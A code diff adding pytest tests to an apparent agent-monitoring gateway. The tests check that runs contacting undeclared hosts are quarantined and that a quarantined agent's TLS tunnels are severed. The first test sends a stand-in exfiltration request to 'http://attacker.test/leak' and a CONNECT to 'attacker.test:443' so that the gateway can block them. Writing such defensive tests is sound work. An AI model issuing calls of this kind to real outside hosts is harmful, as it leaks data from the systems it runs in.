@@ -5,6 +5,7 @@ from __future__ import annotations
 import asyncio
 import contextlib
 import json
+import ssl
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -13,6 +14,7 @@ import pytest
 from click.testing import CliRunner
 
 from gateway.cli import main
+from gateway.core.server import ForwardSettings, UnknownHosts
 from tests.gateway.harness import MANIFEST, Child, Serving, serving
 from tests.origin import Answer, Feed, Hang, Origin
 
@@ -299,3 +301,57 @@ async def test_shadow_blocks_nothing_and_says_so(tmp_path: Path) -> None:
         await gateway.agent.send("PUT", "/files/files/a", b"text", run="bad")
         await quarantine(gateway, trajectory="bad")
         assert (await gateway.agent.send("GET", "/files/files/a", run="good")).status == 200
+
+
+async def test_calling_an_undeclared_host_quarantines_the_run(tmp_path: Path) -> None:
+    """`forward.unknown_hosts: quarantine`: what a run has no business with betrays it."""
+    forward = ForwardSettings(unknown_hosts=UnknownHosts.QUARANTINE)
+    async with Origin() as origin, serving(tmp_path, origin.port, WORLD, forward=forward) as gateway:
+        assert (await gateway.agent.send("GET", "/plain/x", run="bad")).status == 200
+        refused = await gateway.agent.send("GET", "http://attacker.test/leak", run="bad")
+        assert (refused.status, refused.code) == (423, "ERR_QUARANTINED")
+        assert (await gateway.agent.send("GET", "/plain/x", run="bad")).code == "ERR_QUARANTINED"
+        assert (await gateway.agent.send("GET", "/nothing/x", run="good")).code == "ERR_UNKNOWN_TOOL"
+        tunnel = await gateway.agent.send("CONNECT", "attacker.test:443", headers=[("Seawall-Agent", "mallory")])
+        assert tunnel.code == "ERR_QUARANTINED"
+        for method, target in (("GET", "/plain/x"), ("CONNECT", "attacker.test:443")):
+            answer = await gateway.agent.send(method, target, headers=[("Seawall-Agent", "mallory")])
+            assert answer.code == "ERR_QUARANTINED"
+        told = (await gateway.operator.send("GET", "/api/v1/quarantine")).json["quarantines"]
+        assert [(one["trajectory"], one["agent"]) for one in told] == [("bad", None), (None, "mallory")]
+
+
+async def test_the_tunnels_of_a_quarantined_agent_are_cut(tmp_path: Path) -> None:
+    """Bytes in a blind tunnel are seen by nobody, so the whole of it goes."""
+    outward = ssl.MemoryBIO()
+    tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outward, server_hostname="localhost")
+    with contextlib.suppress(ssl.SSLWantReadError):
+        tls.do_handshake()
+    hello = outward.read()
+
+    async def far_end(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        arrived.append(await reader.readexactly(len(hello)))
+        with contextlib.suppress(ConnectionResetError):
+            await reader.read()
+        over.append(b"")
+        writer.close()
+
+    arrived: list[bytes] = []
+    over: list[bytes] = []
+    server = await asyncio.start_server(far_end, "127.0.0.1", 0)
+    port = server.sockets[0].getsockname()[1]
+    forward = ForwardSettings(tunnel=(f"localhost:{port}",))
+    async with Origin() as origin, serving(tmp_path, origin.port, WORLD, forward=forward) as gateway:
+        reader, writer = await gateway.agent.open()
+        writer.write(f"CONNECT localhost:{port} HTTP/1.1\r\nHost: x\r\nSeawall-Agent: mallory\r\n\r\n".encode())
+        assert b" 200 " in await reader.readuntil(b"\r\n\r\n")
+        writer.write(hello)
+        await wait_for(lambda: arrived)
+        told = await quarantine(gateway, agent="mallory")
+        assert told["stages"]["sever"]["detail"] == "1 cut"
+        with contextlib.suppress(ConnectionResetError):
+            assert await asyncio.wait_for(reader.read(), 5) == b""
+        writer.close()
+        await wait_for(lambda: over)
+        assert (await gateway.operator.send("GET", "/api/v1/status")).json["tunnels"] == 0
+    server.close()
